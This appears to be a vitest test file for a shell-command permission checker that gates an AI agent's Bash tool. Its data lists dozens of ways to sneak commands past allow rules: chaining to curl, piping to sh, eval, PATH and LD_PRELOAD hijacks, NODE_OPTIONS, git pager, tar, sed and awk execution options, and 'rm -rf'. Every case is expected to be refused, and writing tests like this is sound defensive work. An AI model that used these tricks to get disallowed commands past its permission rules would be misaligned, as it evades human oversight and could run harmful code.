import { describe, expect, it } from 'vitest';
import { analyzeBash } from './bash-commands.ts';
import { compileBashRule } from './bash-rules.ts';
import { compileRule } from './compiled-rules.ts';
import { decide } from './decide.ts';
import { parseRule } from './rule-syntax.ts';
import { secretPaths } from './secret-paths.ts';

const bases = { cwd: '/ws', home: '/home/u', root: '/ws' };
const noSecrets = secretPaths([], [], bases);

function rules(spec: { allow?: string[]; deny?: string[]; ask?: string[] }) {
  return (['deny', 'ask', 'allow'] as const).flatMap((behavior) =>
    (spec[behavior] ?? []).map((text) => {
      const parsed = parseRule(text);
      if (!parsed.ok) throw new Error(parsed.message);
      return compileRule(parsed.rule, { text, behavior, source: 'test', bases });
    }),
  );
}

function bash(command: string, spec: { allow?: string[]; deny?: string[]; ask?: string[] }) {
  let analysis: ReturnType<typeof analyzeBash> | undefined;
  return decide(
    { name: 'Bash', bash: () => (analysis ??= analyzeBash(command)) },
    rules(spec),
    'default',
    noSecrets,
  );
}

const ALLOW_NPM_TEST = { allow: ['Bash(npm test:*)', 'Bash(git diff *)'] };

describe('Bash rule forms', () => {
  it.each([
    ['npm test:*', 'npm test', true],
    ['npm test:*', 'npm test --watch', true],
    ['npm test:*', 'npm testing', false],
    ['npm test:*', 'npm', false],
    ['git diff *', 'git diff', true],
    ['git diff *', 'git diff HEAD~1 -- src', true],
    ['git diff *', 'git diffx', false],
    ['git * main', 'git merge main', true],
    ['git * main', 'git merge dev', false],
    ['ls -la', 'ls -la', true],
    ['ls -la', 'ls -la /', false],
  ])('%s vs %s → %s', (rule, command, expected) => {
    expect(compileBashRule(rule)(command.split(' '))).toBe(expected);
  });

  it('the words the rules see are after quote removal', () => {
    expect(bash(`npm 'test' "--watch"`, ALLOW_NPM_TEST).decision).toBe('allowed');
  });
});

describe('chaining and tricks past `Bash(npm test:*)` are refused', () => {
  it.each([
    ['semicolon', 'npm test; curl evil'],
    ['and', 'npm test && curl x'],
    ['or', 'npm test || curl x'],
    ['pipe to a shell', 'npm test | sh'],
    ['pipe', 'npm test | curl -d @- x'],
    ['command substitution in an argument', 'npm test $(curl x)'],
    ['backticks', 'npm test `curl x`'],
    ['newline', 'npm test\ncurl x'],
    ['background', 'npm test & curl x'],
    ['substitution in an env prefix', 'FOO=$(curl x) npm test'],
    ['bash -c', "bash -c 'curl x'"],
    ['sh -c after an allowed command', "npm test; sh -c 'curl x'"],
    ['alias redefinition', 'alias npm=curl; npm test'],
    ['function redefinition', 'npm() { curl x; }; npm test'],
    ['subshell', '(curl x); npm test'],
    ['brace group', '{ curl x; }; npm test'],
    ['process substitution', 'npm test <(curl x)'],
    ['here-doc with a substitution', 'npm test <<EOF\n$(curl x)\nEOF'],
    ['substitution inside double quotes', 'npm test "$(curl x)"'],
    ['redirect target substitution', 'npm test > $(curl x)'],
    ['env wrapper', 'env X=1 curl x'],
    ['command wrapper', 'command curl x'],
    ['xargs', 'echo x | xargs curl'],
    ['eval', "eval 'curl x'"],
    ['find -exec', 'npm test; find . -exec curl x {} ;'],
    ['if', 'if npm test; then curl x; fi'],
    ['PATH hijack', 'PATH=/tmp/evil npm test'],
    ['computed command name', '$cmd test'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
    ['computed command name in npm position', 'n${x}pm test'],
    ['brace-expanded command name', 'cu{rl,} x'],
    ['unterminated quote', 'npm test "oops'],
  ])('%s: %s', (_label, command) => {
    const d = bash(command, ALLOW_NPM_TEST);
    expect(d.decision).toBe('denied');
    expect(d.reason).toMatch(/Bash denied|not covered|nobody can approve/);
  });

  it('a deny rule matching any simple command denies the whole command', () => {
    for (const command of [
      'ls; curl x',
      'echo $(curl x)',
      'env -i FOO=1 curl x',
      'timeout 5 curl x',
      'sudo -u root curl x',
      "sh -c 'echo; curl x'",
      'nohup curl x &',
    ]) {
      expect(bash(command, { deny: ['Bash(curl:*)'] }).decision, command).toBe('denied');
    }
    expect(bash('ls; echo curl', { deny: ['Bash(curl:*)'] }).decision).toBe('allowed');
  });

  it('a whole-tool `Bash` allow covers anything the deny rules let through', () => {
    expect(bash('ls; curl x', { allow: ['Bash', 'Bash(npm test:*)'] }).decision).toBe('allowed');
    expect(bash('ls; curl x', { allow: ['Bash'], deny: ['Bash(curl:*)'] }).decision).toBe('denied');
  });

  it('what the allow rules cover together is allowed', () => {
    expect(bash('npm test && git diff HEAD', ALLOW_NPM_TEST).decision).toBe('allowed');
    expect(bash('LC_ALL=C npm test -- --grep "a b" 2>&1 > out.txt', ALLOW_NPM_TEST).decision).toBe('allowed');
    expect(bash('env CI=1 npm test', ALLOW_NPM_TEST).decision).toBe('allowed');
  });

  it('a command that cannot be parsed is denied with the reason when a rule must decide', () => {
    const d = bash('npm test "oops', { deny: ['Bash(curl:*)'] });
    expect(d.decision).toBe('denied');
    expect(d.reason).toContain('could not be parsed');
    expect(d.hint).toBeTruthy();
    // With no Bash rule at all there is nothing to check: the shell reports its own syntax error.
    expect(bash('npm test "oops', {}).decision).toBe('allowed');
  });
});

describe('text evaluated at run time is not decidable under a rule (review finding 5)', () => {
  it.each([
    ["x='a[$(touch p)]'; npm test $((x))", 'assignment'],
    [`x='$(touch p)'; npm test \${x@P}`, 'assignment'],
    ['npm test $((y))', 'arithmetic'],
    ['npm test $[y]', 'arithmetic'],
    ['npm test; (( y ))', 'arithmetic'],
    [`npm test \${y@P}`, 'transforms'],
    [`npm test \${y@E}`, 'transforms'],
    [`npm test \${!y}`, 'indirect'],
    [`npm test \${y:z}`, 'offset'],
    [`npm test \${a[z]}`, 'subscript'],
    ["npm test; [[ -v 'a[$(touch p)]' ]]", '-v'],
    ["npm test; [[ 'a[$(touch p)]' -eq 1 ]]", '-eq'],
    ['a[z]=1; npm test', 'subscript'],
  ])('%s is denied (%s)', (command, why) => {
    const d = bash(command, ALLOW_NPM_TEST);
    expect(d.decision).toBe('denied');
    expect(d.reason).toContain(why);
    expect(d.reason).toContain('cannot be checked');
  });

  it('plain expansions, literal subscripts and `[[ == ]]` stay decidable; with no rule nothing is refused', () => {
    expect(bash(`npm test \${HOME} \${a[0]} "$@"`, ALLOW_NPM_TEST).decision).toBe('allowed');
    expect(bash('npm test; [[ -f x ]]', ALLOW_NPM_TEST).decision).toBe('allowed');
    expect(bash(`x='$(id)'; echo \${x@P} $((1+2))`, {}).decision).toBe('allowed');
  });
});

describe('variables set under a specific allow rule (review finding 6)', () => {
  it.each([
    ["GIT_EXTERNAL_DIFF='touch p;:' git diff", 'GIT_EXTERNAL_DIFF'],
    ['NODE_OPTIONS="--import=data:text/javascript,1" npm test', 'NODE_OPTIONS'],
    ['env NODE_OPTIONS=x npm test', 'NODE_OPTIONS'],
    ['npm_config_script_shell=/tmp/x; npm test', 'npm_config_script_shell'],
  ])('%s is not covered: it sets %s', (command, variable) => {
    const d = bash(command, ALLOW_NPM_TEST);
    expect(d.decision).toBe('denied');
    expect(d.reason).toContain(`it sets ${variable}`);
    expect(d.reason).toContain('NO_COLOR');
  });

  it('safe-listed variables pass; a plain Bash allow or no rule does not look at variables', () => {
    expect(bash('LANG=C LC_ALL=C CI=1 env FORCE_COLOR=0 npm test', ALLOW_NPM_TEST).decision).toBe('allowed');
    expect(bash('NODE_OPTIONS=x npm test', { allow: ['Bash'] }).decision).toBe('allowed');
    expect(bash('NODE_OPTIONS=x npm test', {}).decision).toBe('allowed');
  });
});

describe('options that make an allowed program run other code need a rule naming them (issue 12, 5.1)', () => {
  it.each([
    ['npm test:*', `npm test --node-options='--require ./x.js'`],
    ['npm test:*', 'npm test --node-options --require=./x.js'],
    ['npm test:*', 'npm test --script-shell=./evil.sh'],
    ['npm test:*', 'npm test --userconfig ./evil.npmrc'],
    ['npm test:*', 'npm test --prefix ./evil'],
    ['npm test:*', 'npm test --require ./x.js'],
    ['npm exec:*', "npm exec -c 'touch p'"],
    ['npx:*', "npx -c 'touch p'"],
    ['npx:*', "npx --call='touch p'"],
    ['npx:*', 'npx -p ./evil vitest'],
    ['npx vitest:*', 'npx vitest --config evil.config.ts'],
    ['npx vitest:*', 'npx vitest -c=evil.config.ts'],
    ['npx:*', 'npx --yes vitest run --root=/tmp/evil'],
    ['pnpm test:*', 'pnpm test --node-options=--require=./x.js'],
    ['yarn test:*', 'yarn test --cwd ../evil'],
    ['node:*', `node -e 'require("fs")'`],
    ['node:*', 'node --eval=1'],
    ['node:*', 'node -p 1'],
    ['node:*', 'node -pe 1'],
    ['node:*', 'node --print 1'],
    ['node:*', 'node -r ./x.js app.js'],
    ['node:*', 'node -r./x.js app.js'],
    ['node:*', 'node --require=./x.js app.js'],
    ['node:*', 'node --import ./x.mjs app.js'],
    ['node:*', 'node --loader=./x.mjs app.js'],
    ['node:*', 'node --experimental-loader ./x.mjs app.js'],
    ['git *', "git -c core.pager='touch p' log"],
    ['git *', 'git --config-env=core.pager=EVIL log'],
    ['git *', 'git --exec-path=/tmp/evil status'],
    ['git *', 'git -C /tmp/evil log'],
    ['git *', 'git --git-dir=/tmp/evil/.git log'],
    ['git diff *', 'git diff --output=.git/hooks/pre-commit'],
    ['git *', "git clone --upload-pack='touch p' x y"],
    ['git *', 'git clone --template=./t https://x y'],
    ['git *', "git rebase -x 'touch p' main"],
    ['git *', "git rebase --exec='touch p' main"],
    ['git *', "git submodule foreach 'touch p'"],
    ['git *', 'git bisect run ./evil.sh'],
    ['git *', "git grep -O'touch p' x"],
    ['git *', "git difftool -x 'touch p'"],
    ['git *', "git push --receive-pack='touch p'"],
    ['python3:*', "python3 -c 'import os'"],
    ['python3:*', "python3 -Sc 'import os'"],
    ['python3:*', 'python3 -m evil'],
    ['python3 -m pytest:*', 'python3 -m pytest -p evil_plugin'],
    ['python3 -m pytest:*', 'python3 -m pytest -o addopts=-pevil'],
    ['pytest:*', 'pytest -pevil'],
    ['pytest:*', 'pytest --override-ini=addopts=-pevil'],
    ['make:*', 'make -f evil.mk'],
    ['make:*', 'make --file=evil.mk'],
    ['make:*', "make --eval='x:;touch p' x"],
    ['make:*', 'make SHELL=/tmp/evil test'],
    ['make:*', 'make -C /tmp/evil'],
    ['cargo test:*', `cargo test --config 'target.x.runner="sh"'`],
    ['cargo test:*', 'cargo test -Zunstable-options'],
    ['cargo test:*', 'cargo test --manifest-path /tmp/evil/Cargo.toml'],
    ['npx tsc:*', 'npx tsc --outFile .git/config'],
    ['find:*', 'find . -delete'],
    ['find:*', 'find . -fprint .git/config'],
    ['rg:*', 'rg --pre ./evil.sh x'],
    ['rg:*', 'rg --pre=sh x'],
    ['tar:*', "tar -xf a.tar --to-command='sh -c x'"],
    ['tar:*', "tar -I 'sh -c x' -xf a.tar"],
    ['tar:*', 'tar -xIevil -f a.tar'],
    ['tar:*', 'tar --use-compress-program=./evil -cf a.tar .'],
    ['tar:*', "tar --checkpoint=1 --checkpoint-action=exec='touch p' -cf a.tar ."],
    ['sed:*', "sed 's/x/y/e' f"],
    ['sed:*', "sed -e 'e touch p' f"],
    ['sed:*', "sed -n '1e touch p' f"],
    ['sed:*', "sed '/x/ { s/a/b/; e touch p\n}' f"],
    ['sed:*', "sed 'w .git/config' f"],
    ['sed:*', "sed --expression='s/a/b/w out' f"],
    ['sed:*', 'sed -f evil.sed f'],
    ['awk:*', `awk 'BEGIN{system("touch p")}'`],
    ['awk:*', `awk '{print | "sh"}' f`],
    ['awk:*', `awk 'BEGIN{"date" | getline d}'`],
    ['awk:*', `awk '{print > ".git/config"}' f`],
    ['awk:*', 'awk -f evil.awk f'],
    ['awk:*', `awk '@load "evil"'`],
  ])('`Bash(%s)` does not cover %s', (rule, command) => {
    const d = bash(command, { allow: [`Bash(${rule})`] });
    expect(d.decision).toBe('denied');
    expect(d.reason).toMatch(/run other code/);
  });

  it('an option reached through a wrapper, xargs or a computed word counts too', () => {
    const allow = {
      allow: ['Bash(npm test:*)', 'Bash(node:*)', 'Bash(echo:*)', 'Bash(git diff *)', 'Bash(set:*)'],
    };
    for (const command of [
      'env CI=1 npm test --node-options=--require=./x.js',
      "timeout 5 node -e 'x'",
      'echo --require=./x.js | xargs node app.js',
      'CI=--node-options=--require=./x.js; npm test $CI',
      'for CI in --node-options=x; do npm test "$CI"; done',
      'npm test a$CI; CI=" --node-options=x"',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
      'npm test "${X:---node-options=x}"',
      'npm test $(echo --node-options=x)',
      'npm test *',
      'set -- --node-options=x; npm test "$@"',
      'git diff $(echo --output=x)',
    ]) {
      expect(bash(command, allow).decision, command).toBe('denied');
    }
    // The environment's variables are the user's: they stay decidable.
    expect(bash('npm test "$HOME" $PWD', allow).decision).toBe('allowed');
  });

  it('what the rule names, arguments after `--` or a script, and harmless scripts stay allowed', () => {
    for (const [rule, command] of [
      ['node -e:*', `node -e 'console.log(1)'`],
      ['python3 -m pytest:*', 'python3 -m pytest -q tests/'],
      ['python3 script.py:*', 'python3 script.py -c conf.yml'],
      ['git -c core.pager=cat log:*', 'git -c core.pager=cat log -1'],
      ['npm test:*', 'npm test -- --require x --watch=false'],
      ['npm test:*', 'npm test --silent'],
      ['git diff *', 'git diff -c HEAD -- "$FILE"'],
      ['git *', 'git add -u'],
      ['make:*', 'make test -j4'],
      ['sed:*', "sed -n 's/hello/world/gp; /x/d' f"],
      ['sed:*', "sed -e 's|a/b|c|' -e 'y/abc/xyz/' f"],
      ['sed:*', "sed --sandbox 's/x/y/e' f"],
      ['awk:*', `awk '{print $1}' f`],
      ['awk:*', `awk -F: '$3 > 100 {print $1}' /etc/passwd`],
      ['awk:*', `awk '/a|b/ {n++} END {print n}' f`],
      ['find:*', 'find . -name "*.ts" -newer x'],
      ['tar:*', 'tar -czf out.tgz src'],
      ['npx vitest --config=vitest.ci.ts:*', 'npx vitest --config=vitest.ci.ts run'],
    ]) {
      expect(bash(command!, { allow: [`Bash(${rule})`] }).decision, `${rule} / ${command}`).toBe('allowed');
    }
  });

  it('an option the rule names is covered as often as the rule has it', () => {
    const rule = { allow: ['Bash(npx vitest --config=vitest.ci.ts:*)'] };
    expect(bash('npx vitest --config=vitest.ci.ts --config=evil.ts', rule).decision).toBe('denied');
  });

  it('the refusal names the option and the rule that would allow it', () => {
    const d = bash("npm test --node-options='--require ./x.js'", ALLOW_NPM_TEST);
    expect(d.reason).toContain('--node-options');
    expect(d.reason).toContain('Bash(npm test:*)');
  });
});

describe('builtins that evaluate a name or a string (issue 12, 5.2)', () => {
  const DENY_CURL = { deny: ['Bash(curl:*)'] };
  it.each([
    "printf -v 'a[$(curl x)]' y",
    "printf -v'a[$(curl x)]' y",
    'printf -v "$name" y',
    "test -v 'a[$(curl x)]'",
    "[ -v 'a[$(curl x)]' ]",
    "read 'a[$(curl x)]' <<< y",
    "read -r -a 'a[$(curl x)]' <<< y",
    "declare 'a[$(curl x)]=1'",
    "typeset 'a[$(curl x)]=1'",
    "f() { local 'a[$(curl x)]=1'; }; f",
    "export 'a[$(curl x)]=1'",
    "readonly 'a[$(curl x)]=1'",
    "declare -n r='a[$(curl x)]'",
    "declare x='$(curl x)'",
    "let 'y=a[$(curl x)]'",
    'let y=1',
    "unset 'a[$(curl x)]'",
    "getopts a 'a[$(curl x)]'",
    "wait -p 'a[$(curl x)]'",
  ])('%s is denied where a rule must decide', (command) => {
    const d = bash(command, DENY_CURL);
    expect(d.decision).toBe('denied');
    expect(d.reason).toContain('cannot be checked');
    expect(bash(command, { allow: ['Bash'], ...DENY_CURL }).decision).toBe('denied');
  });

  it.each([
    ['export PATH=/tmp/evil; npm test', 'PATH'],
    ['declare -x LD_PRELOAD=/tmp/x.so; npm test', 'LD_PRELOAD'],
    ['read PATH <<< /tmp/evil; npm test', 'PATH'],
    ['printf -v PATH /tmp/evil; npm test', 'PATH'],
    ['mapfile -t PATH <<< /tmp/evil; npm test', 'PATH'],
    ['for PATH in /tmp/evil; do npm test; done', 'PATH'],
    ['hash -p /tmp/evil npm; npm test', 'npm'],
  ])('%s changes what runs (%s)', (command, what) => {
    const d = bash(command, {
      allow: [
        'Bash(npm test:*)',
        'Bash(export:*)',
        'Bash(declare:*)',
        'Bash(read:*)',
        'Bash(printf:*)',
        'Bash(mapfile:*)',
        'Bash(hash:*)',
      ],
    });
    expect(d.decision).toBe('denied');
    expect(d.reason).toContain(what);
  });

  it('a variable set by a builtin counts like `X=1 cmd` under a specific allow rule', () => {
    const allow = { allow: ['Bash(npm test:*)', 'Bash(export:*)', 'Bash(read:*)'] };
    expect(bash('export NODE_OPTIONS=--require=./x.js; npm test', allow).reason).toContain(
      'it sets NODE_OPTIONS',
    );
    expect(bash('read NODE_OPTIONS <<< x; export NODE_OPTIONS; npm test', allow).reason).toContain(
      'it sets NODE_OPTIONS',
    );
    expect(bash('export CI=1; npm test', allow).decision).toBe('allowed');
  });

  it('plain names and literal subscripts stay decidable', () => {
    for (const command of [
      'printf -v out %s x',
      'read -r a b <<< "x y"',
      'test -v HOME',
      "declare -a 'a[0]=1'",
      'unset a[1]',
    ]) {
      expect(analyzeBash(command).ok, command).toBe(true);
    }
  });
});

describe('string-evaluating builtins are checked the same under deny and allow rules (issue 12, 5.3)', () => {
  const DENY_RM = { deny: ['Bash(rm:*)'] };
  it.each([
    "command eval 'rm -rf x'",
    "builtin eval 'rm x'",
    `eval "eval 'rm x'"`,
    "trap 'rm x' EXIT",
    "trap -- 'rm x' EXIT INT",
    "command bash -c 'rm x'",
    "find . -exec sh -c 'rm x' \\;",
    'find . -exec bash -c \'rm "$1"\' _ {} +',
    "mapfile -C 'rm x' -c 1 a < f",
    "compgen -C 'rm x' y",
    "complete -C 'rm x' y",
    "env -S 'rm x'",
    "echo 'rm x' | xargs -I{} sh -c '{}'",
    'echo rm x | xargs env',
    'echo rm x | xargs sh -c',
    "echo 'rm x' | sh",
    "echo 'rm x' | bash -s",
    "bash <<< 'rm x'",
    "sh <<'EOF'\nrm x\nEOF",
    '. <(echo rm x)',
    "source /dev/stdin <<< 'rm x'",
    'bash <(echo rm x)',
    'bash $OPTS',
    "fc -e 'rm' -1",
    'enable -f ./evil.so ls; ls',
    'hash -p /bin/rm ls; ls x',
    'trap "$X" EXIT',
    'command eval "$X"',
    "sudo -u x eval 'rm x'",
  ])('%s is denied by `Bash(rm:*)`', (command) => {
    expect(bash(command, DENY_RM).decision).toBe('denied');
    // The same command is not covered by an allow list that lacks rm.
    expect(
      bash(command, { allow: ['Bash(echo:*)', 'Bash(find:*)', 'Bash(trap:*)', 'Bash(eval:*)'] }).decision,
    ).toBe('denied');
  });

  it('harmless uses stay allowed under the deny rule', () => {
    for (const command of [
      "trap 'echo done' EXIT",
      'trap - EXIT',
      "eval 'ls -la'",
      "bash -c 'echo hi'",
      "bash <<'EOF'\necho hi\nEOF",
      'bash scripts/build.sh',
      'find . -exec sh -c \'echo "$1"\' _ {} \\;',
      'echo a b | xargs -n1 echo',
    ]) {
      expect(bash(command, DENY_RM).decision, command).toBe('allowed');
    }
  });
});
